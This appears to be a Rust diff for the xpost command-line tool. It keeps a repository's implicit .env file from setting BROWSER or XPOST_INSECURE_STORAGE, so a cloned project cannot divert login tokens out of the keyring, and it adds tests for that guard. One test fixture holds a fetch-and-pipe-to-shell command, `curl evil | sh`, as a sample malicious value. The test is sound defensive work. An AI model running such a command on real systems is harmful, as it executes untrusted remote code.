@@ -145,9 +145,11 @@ const OAUTH1: [Name; 4] = [
     },
 ];
 
-/// Variables that name a command to run: taken from the environment or a file given with
-/// `--env-file`, never from a `./.env` found in the working directory.
-const COMMANDS: [&str; 1] = ["BROWSER"];
+/// Variables that name a command to run, or take the login's tokens out of the keyring:
+/// taken from the environment or a file given with `--env-file`, never from a `./.env` found
+/// in the working directory (a cloned repository's `.env` could otherwise have the next login's
+/// tokens written to a file, in a state directory of its choosing).
+const COMMANDS: [&str; 2] = ["BROWSER", "XPOST_INSECURE_STORAGE"];
 
 /// Removes from an implicit `./.env`'s variables those it may not set ([`COMMANDS`]);
 /// returns their names.
@@ -262,6 +264,13 @@ impl Env {
     /// consent.
     pub fn ci(&self) -> bool {
         is_ci((self.lookup)("CI").as_deref())
+    }
+
+    /// Whether the login's tokens are to be kept in its file rather than the system's keyring:
+    /// `flag` (`--insecure-storage`), else `XPOST_INSECURE_STORAGE` set to anything but empty,
+    /// `0` or `false` (read as `CI` is, see [`is_ci`]).
+    pub fn insecure_storage(&self, flag: bool) -> bool {
+        flag || is_ci((self.lookup)("XPOST_INSECURE_STORAGE").as_deref())
     }
 
     /// Where logins are kept: `XPOST_HOME`, else `$XDG_STATE_HOME/xpost` (when absolute), else
@@ -940,12 +949,16 @@ mod tests {
         let mut vars: HashMap<String, String> = [
             ("BROWSER", "sh -c 'curl evil | sh'"),
             ("XPOST_HOME", "/home/me/xpost"),
+            ("XPOST_INSECURE_STORAGE", "1"),
             ("X_CLIENT_ID", "id"),
         ]
         .into_iter()
         .map(|(k, v)| (k.to_owned(), v.to_owned()))
         .collect();
-        assert_eq!(only_named_files(&mut vars), ["BROWSER"]);
+        assert_eq!(
+            only_named_files(&mut vars),
+            ["BROWSER", "XPOST_INSECURE_STORAGE"]
+        );
         assert!(!vars.contains_key("BROWSER"));
         assert_eq!(vars.len(), 2, "the rest is kept: {vars:?}");
     }
@@ -1014,6 +1027,11 @@ mod tests {
         assert!(env(&[("CI", "true")]).ci());
         assert!(!env(&[("CI", "false")]).ci());
         assert!(!env(&[]).ci());
+        // XPOST_INSECURE_STORAGE reads alike; --insecure-storage wins over an "off".
+        assert!(env(&[("XPOST_INSECURE_STORAGE", "1")]).insecure_storage(false));
+        assert!(!env(&[("XPOST_INSECURE_STORAGE", "0")]).insecure_storage(false));
+        assert!(env(&[("XPOST_INSECURE_STORAGE", "false")]).insecure_storage(true));
+        assert!(!env(&[]).insecure_storage(false));
     }
 
     const KEYS: &[(&str, &str)] = &[
